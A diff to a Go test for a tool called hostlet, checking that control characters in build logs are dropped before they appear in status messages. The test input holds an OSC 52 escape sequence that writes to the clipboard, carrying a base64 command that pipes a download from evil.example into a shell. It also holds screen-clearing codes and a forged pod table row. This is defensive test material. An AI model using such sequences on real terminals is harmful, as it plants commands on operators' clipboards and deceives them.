@@ -1,6 +1,6 @@
 package runtime
 
-// Attacks on the build log hostlet keeps (issue 15).
+// The build log hostlet keeps and shows (issue 15).
 
 import (
 	"strings"
@@ -8,12 +8,13 @@ import (
 	"unicode"
 )
 
-// A build's RUN step prints whatever it likes; the log's last lines go
-// into the BuildFailed message (status, GET /pods/{id}, events, `hostlet
-// status`'s table) with their control characters: an OSC 52 sequence
-// writes the operator's clipboard, others retitle or clear the terminal,
-// and newlines print table rows of pods that do not exist.
-func TestAttackBuildLogKeepsControlCharacters(t *testing.T) {
+// TestBuildLogDropsControlCharacters: a build's RUN step prints whatever
+// it likes, and the log's last lines go into the BuildFailed message
+// (status, GET /pods/{id}, events, `hostlet status`'s table). Kept with
+// their control characters, an OSC 52 sequence would write the operator's
+// clipboard, others retitle or clear the terminal, and newlines print
+// table rows of pods that do not exist.
+func TestBuildLogDropsControlCharacters(t *testing.T) {
 	stream := `{"stream":"Step 2/2 : RUN [\"/app\"]\n"}` +
 		`{"stream":"\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcnwgc2g=\u0007\u001b[2J\u001b[1;1H\n"}` +
 		`{"stream":"db   postgres  Running  running  0  abc1234  postgres:16  -\n"}` +
